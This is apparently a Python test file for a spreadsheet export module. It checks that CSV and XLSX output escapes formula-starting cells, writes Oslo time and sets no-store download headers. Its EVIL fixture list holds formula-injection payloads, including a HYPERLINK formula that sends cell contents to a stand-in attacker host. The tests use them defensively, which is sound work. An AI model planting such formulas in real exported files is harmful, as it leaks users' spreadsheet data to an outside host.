"""The one spreadsheet writer: CSV and XLSX from the same rows, never a formula from text."""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from toppleder.spreadsheets import Sheet, csv_bytes, safe_cell, sheet_response, xlsx_bytes

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"klikk")', "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1"]


def test_safe_cell_prefixes_every_formula_start_and_keeps_numbers_numbers():
    for text in EVIL:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Oslo") == "Oslo"
    assert safe_cell(None) == ""
    assert safe_cell(-3) == -3  # a number is no formula: it stays a number
    assert safe_cell(date(2026, 3, 29)) == "2026-03-29"


def test_times_are_written_in_oslo_time():
    # 23:30 UTC on 28 March 2026 is 00:30 on the 29th in Oslo (summer time starts that night).
    assert safe_cell(datetime(2026, 3, 28, 23, 30, tzinfo=ZoneInfo("UTC"))) == "2026-03-29 00:30"


@pytest.fixture
def sheet():
    return Sheet("Påmeldinger", ["Navn", "=Overskrift"], [[text, i] for i, text in enumerate(EVIL)])


def test_csv_has_a_bom_semicolons_and_no_formula(sheet):
    data = csv_bytes(sheet)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Navn", "'=Overskrift"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in EVIL]


def test_xlsx_from_the_same_rows_has_no_formula_and_keeps_numbers(sheet):
    ws = load_workbook(io.BytesIO(xlsx_bytes(sheet))).active
    assert ws.title == "Påmeldinger"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # (openpyxl reads a carriage return back as a line feed, or keeps it when lxml is installed,
    # as pikepdf brings it; the apostrophe is what matters.)
    assert [c.value.replace("\r", "\n") for c in ws["A"][1:]] == ["'" + t.replace("\r", "\n") for t in EVIL]
    assert [c.value for c in ws["B"][1:]] == list(range(len(EVIL)))
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width > len("Navn") + 2  # measured before the rows were written


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_response_is_a_download_that_is_not_kept(sheet, fmt):
    response = sheet_response(sheet, fmt, "programme-1-enrolments")
    assert response["Content-Disposition"] == f'attachment; filename="programme-1-enrolments.{fmt}"'
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
